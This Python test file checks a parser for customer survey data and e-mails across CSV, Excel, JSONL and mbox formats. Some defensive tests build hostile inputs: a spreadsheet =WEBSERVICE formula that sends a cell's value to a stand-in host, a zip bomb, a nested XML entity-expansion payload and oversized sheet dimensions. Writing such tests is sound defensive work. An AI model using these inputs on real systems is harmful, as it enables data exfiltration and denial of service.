"""Files as customers' data comes: every delimiter, encoding and spelling; and files that mean harm."""

import io
import json
import time
import zipfile
from datetime import UTC, date, datetime
from email.message import EmailMessage

import openpyxl
import pytest

from crawlers.columns import ColumnMap
from crawlers.rows.answers import AnswerReader, RowFaultError
from crawlers.rows.mail_text import own_words
from crawlers.rows.opening import kind_of, rows_of
from crawlers.rows.row import RowFileError

NOW = datetime(2026, 11, 22, 9, 0, tzinfo=UTC)
HEAD = ("Datum", "Note", "Kommentar")


def rows(data, wanted=HEAD, **options):
    stream = io.BytesIO(data if isinstance(data, bytes) else data.encode())
    return list(rows_of(stream, wanted=wanted, **options))


def reader(**columns):
    return AnswerReader(ColumnMap(**({"text": "Kommentar"} | columns)), b"nur zum Testen", NOW, "umfrage")


# --- CSV


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "cp1252", "cp850", "mac_roman", "utf-16", "utf-16-le"])
@pytest.mark.parametrize("delimiter", [";", ",", "\t", "|"])
def test_delimiter_and_encoding_are_found(encoding, delimiter):
    lines = [
        HEAD,
        ("03.03.2026", '"4,5"', '"Schöne Äpfel, süße Möhren; große Kiste"'),
        ("04.03.2026", "2", "Müde Grüße"),
    ]
    data = "\r\n".join(delimiter.join(line) for line in lines).encode(encoding)
    found = rows(data)
    assert [(row.number, row.fault) for row in found] == [(2, None), (3, None)]
    assert found[0].values["Kommentar"] == "Schöne Äpfel, süße Möhren; große Kiste"
    assert found[1].values["Kommentar"] == "Müde Grüße"


def test_headings_may_stand_below_a_title_and_in_any_order_and_case():
    found = rows("Umfrage Herbst 2026\n\nkommentar ;NOTE;Filiale;datum\nGut;1;Köln;1.3.2026\n;;;\n")
    assert [dict(row.values) for row in found] == [{"Datum": "1.3.2026", "Note": "1", "Kommentar": "Gut"}]
    assert found[0].number == 4


def test_cells_with_line_breaks_keep_the_count_of_lines():
    found = rows('Datum;Note;Kommentar\n1.3.2026;1;"Erste\nZweite"\n2.3.2026;2;Danach\n')
    assert [(row.number, row.values["Kommentar"]) for row in found] == [(2, "Erste\nZweite"), (4, "Danach")]


@pytest.mark.parametrize(
    ("line", "words"),
    [
        ("1.3.2026;1", "nur 2 von 3"),
        ("1.3.2026;1;Gut;und mehr", "hat 4 Felder"),
        ('1.3.2026;1;"' + "x" * 300_000 + '"', "mehr als"),
        ('1.3.2026;1;"' + "x" * 3_000_000 + '"', "zu groß"),
    ],
)
def test_bad_row_is_named_by_its_line_and_the_next_one_is_read(line, words):
    found = rows(f"Datum;Note;Kommentar\n1.3.2026;1;Gut\n{line}\n2.3.2026;2;Danach\n")
    assert [row.number for row in found] == [2, 3, 4]
    assert words in found[1].fault
    assert found[2].values["Kommentar"] == "Danach"


def test_unclosed_quote_does_not_swallow_the_file_in_silence():
    lines = "".join(f"1.3.2026;1;Zeile {n}\n" for n in range(2000))
    found = rows(f'Datum;Note;Kommentar\n1.3.2026;1;"offen\n{lines}')
    assert any("Anführungszeichen" in (row.fault or "") for row in found)


def test_broken_bytes_in_one_row_fault_that_row():
    good = "".join(f"1.3.2026;1;Größe {n} schön\n" for n in range(20)).encode()
    found = rows(b"Datum;Note;Kommentar\n" + good + b"2.3.2026;1;kaputt\xff\xfe\n3.3.2026;1;Danach\n")
    assert [row.fault is None for row in found] == [True] * 20 + [False, True]
    assert "Kodierung" in found[20].fault


def test_single_nul_bytes_are_no_reason_to_stop():
    found = rows("Datum;Note;Kommentar\n1.3.2026;1;Vor\x00nach\n" + "2.3.2026;1;Danach ist auch noch etwas\n" * 5)
    assert len(found) == 6


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (b"", "leer"),
        (b"\n\n\n", "leer"),
        (b"a;b\n1;2\n", "Spalte „Datum“ fehlt. Die Datei hat: „a“, „b“"),
        (b"Datum;Note\n1;2\n", "Spalte „Kommentar“ fehlt"),
        (bytes(range(256)) * 50, "fehlt|Textdatei"),
        (b"\x00" * 5000, "Textdatei"),
        (b"%PDF-1.7", "PDF"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 100, "alte oder verschlüsselte"),
        (b"PK\x03\x04 kaputt", "beschädigt"),
        (b'[{"Kommentar": "x"}]', "JSON-Liste"),
        (b'{"a": 1}\n{"b": 2}\n', "Spalte „Datum“ fehlt"),
    ],
)
def test_file_that_is_none_of_ours_is_told_in_a_sentence(data, words):
    with pytest.raises(RowFileError, match=words):
        rows(data)


# --- Excel


def workbook(*lines, title="Antworten"):
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = title
    for line in lines:
        sheet.append(line)
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


def test_excel_gives_its_own_types_and_row_numbers():
    data = workbook(HEAD, (datetime(2026, 3, 1, 14, 5), 4.5, "Schön"), (None, None, None), (date(2026, 3, 2), 2, "Süß"))
    found = rows(data)
    assert [row.number for row in found] == [2, 4]
    assert found[0].values == {"Datum": datetime(2026, 3, 1, 14, 5), "Note": 4.5, "Kommentar": "Schön"}


def test_formula_without_a_value_is_a_fault_of_its_row():
    found = rows(workbook(HEAD, ("1.3.2026", 1, '=WEBSERVICE("http://a.example/?"&A2)'), ("2.3.2026", 1, "Danach")))
    assert "Formel" in found[0].fault
    assert found[1].values["Kommentar"] == "Danach"


def test_sheet_is_chosen_by_name():
    with pytest.raises(RowFileError, match="Die Datei hat: Antworten"):
        rows(workbook(HEAD), sheet="Nirgends")


def packed(entries):
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return stream.getvalue()


def test_packed_bomb_is_not_unpacked():
    data = packed({"xl/workbook.xml": "<x/>", "xl/sharedStrings.xml": b"A" * 120_000_000})
    assert len(data) < 500_000
    began = time.monotonic()
    with pytest.raises(RowFileError, match="Megabyte"):
        rows(data)
    assert time.monotonic() - began < 2


def test_entities_that_multiply_are_refused():
    good = workbook(HEAD, ("1.3.2026", 1, "Gut"))
    with zipfile.ZipFile(io.BytesIO(good)) as archive:
        entries = {name: archive.read(name) for name in archive.namelist()}
    entries["xl/workbook.xml"] = (
        b"<!DOCTYPE l [<!ENTITY a 'xxxxxxxxxx'>"
        + b"".join(f"<!ENTITY a{n} '{f'&a{n - 1 or str()};' * 10}'>".encode() for n in range(1, 9))
        + b"]>"
        + entries["xl/workbook.xml"].replace(b"Antworten", b"&a8;")
    )
    began = time.monotonic()
    with pytest.raises(RowFileError):
        rows(packed(entries))
    assert time.monotonic() - began < 5


def test_sheet_that_claims_a_million_columns_is_read_in_time():
    good = workbook(HEAD, ("1.3.2026", 1, "Gut"))
    with zipfile.ZipFile(io.BytesIO(good)) as archive:
        entries = {name: archive.read(name) for name in archive.namelist()}
    sheet = "xl/worksheets/sheet1.xml"
    entries[sheet] = entries[sheet].replace(b"A1:C2", b"A1:XFD1048576")
    began = time.monotonic()
    assert [row.values["Kommentar"] for row in rows(packed(entries))] == ["Gut"]
    assert time.monotonic() - began < 5


@pytest.mark.parametrize("cut", [50, 500, 2000])
def test_cut_workbook_is_told_in_a_sentence(cut):
    with pytest.raises(RowFileError, match="beschädigt"):
        rows(workbook(HEAD, ("1.3.2026", 1, "Gut"))[:-cut])


# --- JSONL


def test_json_lines_with_inner_values_and_faults():
    lines = [{"a": {"text": "Gut"}, "n": 9}, "kaputt", ["x"], {"a": {"text": ["x"]}}, {"a": {"text": "Süß"}}]
    data = "\n".join(line if isinstance(line, str) else json.dumps(line) for line in lines)
    found = rows(data, wanted=("a.text", "n"))
    assert [(row.number, row.fault is None) for row in found] == [
        (1, True),
        (2, False),
        (3, False),
        (4, False),
        (5, True),
    ]
    assert found[0].values == {"a.text": "Gut", "n": 9}


def test_endless_json_line_is_a_fault():
    found = rows('{"Kommentar": "x"}\n{"Kommentar": "' + "x" * 6_000_000 + '"}\n{"Kommentar": "y"}\n')
    assert [row.fault is None for row in found] == [True, False, True]


def test_deep_json_is_a_fault():
    assert rows('{"Kommentar": "x"}\n{"a":' * 1 + "[" * 100_000 + "\n")[1].fault == "kein JSON"


# --- cells


@pytest.mark.parametrize(
    ("cell", "at", "precision"),
    [
        ("03.03.2026 14:05", "2026-03-03T14:05:00+01:00", "minute"),
        ("3. März 2026", "2026-03-03T00:00:00+01:00", "day"),
        ("03.03.26", "2026-03-03T00:00:00+01:00", "day"),
        ("2026-03-03", "2026-03-03T00:00:00+01:00", "day"),
        ("2026-07-03T10:00:00Z", "2026-07-03T10:00:00+00:00", "minute"),
        (datetime(2026, 3, 3, 14, 5), "2026-03-03T14:05:00+01:00", "minute"),
        (date(2026, 3, 3), "2026-03-03T00:00:00+01:00", "day"),
        (46084, "2026-03-03T00:00:00+01:00", "day"),
        ("März 2026", "2026-03-01T00:00:00+01:00", "month"),
    ],
)
def test_dates_are_read_as_germans_write_them(cell, at, precision):
    (row,) = rows(json.dumps({"Kommentar": "Gut"}), wanted=("Kommentar",))
    answer = reader(date="Datum").read(type(row)(2, {"Kommentar": "Gut", "Datum": cell}))
    assert (answer.post.published_at.isoformat(), answer.post.date_precision) == (at, precision)


def answer_of(values, **columns):
    (row,) = rows(json.dumps({"Kommentar": "Gut"}), wanted=("Kommentar",))
    return reader(**columns).read(type(row)(7, {"Kommentar": "Gut"} | values))


@pytest.mark.parametrize(
    ("cell", "columns", "normalised"),
    [
        ("4,5", {}, 0.875),
        ("4.5 von 5", {}, 0.875),
        (1, {}, 0.0),
        ("9 - sehr wahrscheinlich", {"nps": True}, 0.9),
        (0, {"nps": True}, 0.0),
        ("1", {"scale": {"best": 1, "worst": 6}}, 1.0),
        ("6", {"scale": {"best": 1, "worst": 6}}, 0.0),
        ("Sehr zufrieden", {"answers": {"sehr zufrieden": 5}}, 1.0),
    ],
)
def test_ratings_are_read_on_the_card_s_scale(cell, columns, normalised):
    assert answer_of({"Note": cell}, rating="Note", **columns).post.rating.normalised == pytest.approx(normalised)


@pytest.mark.parametrize("cell", ["", "-", "k. A.", None])
def test_no_answer_is_no_rating(cell):
    assert answer_of({"Note": cell, "Datum": cell}, rating="Note", date="Datum").post.rating is None


@pytest.mark.parametrize(
    ("values", "columns", "words"),
    [
        ({"Note": "11"}, {"rating": "Note", "nps": True}, "„Note“ liegt nicht zwischen 0 und 10"),
        ({"Note": "geht so"}, {"rating": "Note"}, "„Note“ enthält keine Zahl"),
        ({"Note": "nan"}, {"rating": "Note", "answers": {}}, None),
        ({"Note": float("inf")}, {"rating": "Note"}, "keine Zahl"),
        ({"Note": float("nan")}, {"rating": "Note"}, "keine Zahl"),
        ({"Datum": "32.13.2026"}, {"date": "Datum"}, "„Datum“ enthält kein lesbares Datum"),
        ({"Datum": "01.01.3026"}, {"date": "Datum"}, "kein lesbares Datum"),
        ({"Datum": 10**400}, {"date": "Datum"}, "kein lesbares Datum"),
        ({"Phase": "Irgendwas"}, {"phase": "Phase"}, "unbekannte Phase"),
    ],
)
def test_cell_that_can_not_be_read_is_a_fault_that_does_not_quote_it(values, columns, words):
    if words is None:
        assert answer_of(values, **columns).post.rating is None
        return
    with pytest.raises(RowFaultError, match=words) as caught:
        answer_of(values, **columns)
    assert not any(str(value) in str(caught.value) for value in values.values() if isinstance(value, str))


@pytest.mark.parametrize(
    ("cell", "phase"),
    [("Kauf", "purchase"), ("  NUTZUNG ", "usage"), ("exit", "exit"), ("Schalter", "support"), ("", None)],
)
def test_journey_phase_is_read_by_its_german_name_or_the_card_s(cell, phase):
    assert answer_of({"Phase": cell}, phase="Phase", phases={"Schalter": "support"}).phase == phase


def test_identity_shows_nothing_of_the_number_and_stays():
    one, two = (answer_of({"Nr": "K-4711"}, id="Nr").post.native_id for _ in range(2))
    assert one == two
    assert "4711" not in one


# --- mails


def mail(text, *, subject="AW: Ihre Anfrage", sender="Birte Hansen <birte@beispiel.de>", html=None, **headers):
    message = EmailMessage()
    message["From"], message["Subject"], message["Date"] = sender, subject, "Tue, 03 Mar 2026 14:05:00 +0100"
    message["Message-ID"] = f"<{abs(hash((text, html)))}@beispiel.de>"
    for name, value in headers.items():
        message[name.replace("_", "-")] = value
    message.set_content(text or "")
    if html is not None:
        if text:
            message.add_alternative(html, subtype="html")
        else:
            message.set_content(html, subtype="html")
    return b"From birte@beispiel.de Tue Mar  3 14:05:00 2026\n" + message.as_bytes() + b"\n\n"


OWN = "Die Kiste von Kornblume kam schon wieder zu spät.\nBitte melden Sie sich."


@pytest.mark.parametrize(
    "below",
    [
        "\n\nMit freundlichen Grüßen\nBirte Hansen\nHauptstr. 1, 50667 Köln\nTel. 0221 123456",
        "\n\nViele Grüße, Birte",
        "\n-- \nBirte Hansen\nMusterfirma GmbH",
        "\n\nAm Di., 3. März 2026 um 10:12 Uhr schrieb Kornblume <s@k.example>:\n> Guten Tag,\n> alles gut?",
        "\n\nAm 03.03.2026 um 10:12 schrieb Kornblume\nKundendienst\n<service@kornblume.example>:\n> Guten Tag",
        "\n\n-----Ursprüngliche Nachricht-----\nVon: Kornblume\nGesendet: Montag\nAn: B\nBetreff: K\n\nGuten Tag",
        "\n\nVon: Kornblume <s@kornblume.example>\nGesendet: Montag, 2. März 2026\nAn: B\nBetreff: K\n\nGuten Tag",
        "\n\nVon meinem iPhone gesendet",
        "\n\nGesendet mit der WEB.DE Mail App\n\nAm 3.3.26 schrieb Kornblume <a@b.example>:\n> x",
        "\n________________________________\nVon: Kornblume\n\nGuten Tag",
        "\n\nOn Tue, Mar 3, 2026 at 10:12 AM Kornblume <service@kornblume.example> wrote:\n> Hello",
        "\n\nBirte Hansen",
        "\n\nDiese E-Mail enthält vertrauliche Informationen und ist nur für den Empfänger bestimmt.",
    ],
)  # fmt: skip
def test_quotes_and_signatures_of_mails_are_cut(below):
    (row,) = rows(mail(OWN + below))
    assert row.values["text"] == OWN


def test_answers_between_quoted_lines_are_kept():
    text = "Am 3. März 2026 schrieb Kornblume <a@b.example>:\n> Kam sie an?\nNein, sie fehlt.\n> Frisch?\nLeider nicht."
    assert own_words(text) == "Nein, sie fehlt.\nLeider nicht."


def test_own_sentence_about_writing_is_no_attribution():
    text = "Am Montag schrieb ich Ihnen folgendes:\nDie Kiste fehlt."
    assert own_words(text) == text


def test_postscript_stays():
    assert (
        own_words("Die Kiste fehlt.\n\nViele Grüße\nBirte\n\nPS: Der Salat auch.")
        == "Die Kiste fehlt.\n\nPS: Der Salat auch."
    )


def test_html_mail_gives_its_own_words():
    html = (
        "<html><body><p>Die Kiste von <b>Kornblume</b> fehlt &ndash; schon wieder.</p>"
        "<div class='gmail_signature'>Birte Hansen</div>"
        "<div class='gmail_quote'>Am Montag schrieb Kornblume:<blockquote>Guten Tag</blockquote></div></body></html>"
    )
    (row,) = rows(mail("", html=html))
    assert row.values["text"] == "Die Kiste von Kornblume fehlt – schon wieder."


def test_mails_have_subject_date_sender_and_role():
    data = mail(OWN) + mail("Guten Tag, wir kümmern uns.", sender="Service <service@kornblume.example>")
    first, second = rows(data, staff=("kornblume.example",))
    assert (first.values["title"], first.values["role"], first.number) == ("Ihre Anfrage", "customer", 1)
    assert first.values["date"].isoformat() == "2026-03-03T14:05:00+01:00"
    assert (second.values["role"], second.number) == ("staff", 2)


@pytest.mark.parametrize(
    "headers",
    [{"Auto_Submitted": "auto-replied"}, {"Precedence": "bulk"}, {"List_Id": "<x.example>"}, {"X_Autoreply": "yes"}],
)
def test_automatic_mails_are_dropped_with_a_fate(headers):
    (row,) = rows(mail("Ich bin bis Montag nicht da.", **headers))
    assert row.dropped == "dropped/automatic"


def test_broken_mails_end_in_a_row_each():
    odd = [
        b"From x\nSubject: =?utf-8?b?w\xff?=\nDate: gestern\nContent-Type: text/plain; charset=x\n\nHallo \xfc\n\n",
        b"From x\nContent-Type: multipart/mixed; boundary=a\n\n--a\n" * 1 + b"--a\n" * 500 + b"\n\n",
        b"From x\n\n\n",
        b'From x\nFrom: "<>" <@>, ;;\nContent-Transfer-Encoding: base64\n\n!!!!\n\n',
    ]
    found = rows(mail(OWN) + b"".join(odd) + mail(OWN))
    assert found[0].values["text"] == found[-1].values["text"] == OWN
    assert 4 <= len(found) <= 6
    assert found[1].values["text"] == "Hallo ü"


def test_kind_is_told_by_content_not_by_name():
    assert kind_of(io.BytesIO(workbook(HEAD))) == "xlsx"
    assert kind_of(io.BytesIO(b'\xef\xbb\xbf{"a": 1}')) == "jsonl"
    assert kind_of(io.BytesIO(mail(OWN))) == "mbox"
    assert kind_of(io.BytesIO(b"Datum;Note\n")) == "csv"
